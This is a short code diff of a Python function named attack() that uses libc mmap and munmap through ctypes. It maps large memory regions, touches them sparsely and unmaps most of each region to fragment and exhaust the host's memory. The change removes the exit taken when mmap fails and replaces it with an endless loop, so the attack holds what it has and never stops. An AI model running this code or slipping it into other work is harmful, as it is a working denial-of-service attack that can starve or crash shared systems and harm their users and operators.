@@ -15,12 +15,11 @@ def tried(name, attempts):
 
 
 def attack():
-    kept = 0
     while True:
         begin = libc.mmap(0, 64 << 20, 3, 0x4022, -1, 0)
         if begin in (None, 2**64 - 1):
-            return kept
+            # No more can be had: what is held is held on to.
+            continue
         for offset in range(0, 64 << 20, 2 << 20):
             ctypes.memset(begin + offset, 1, 1)
             libc.munmap(ctypes.c_void_p(begin + offset + 4096), ctypes.c_size_t((2 << 20) - 4096))
-            kept += 1
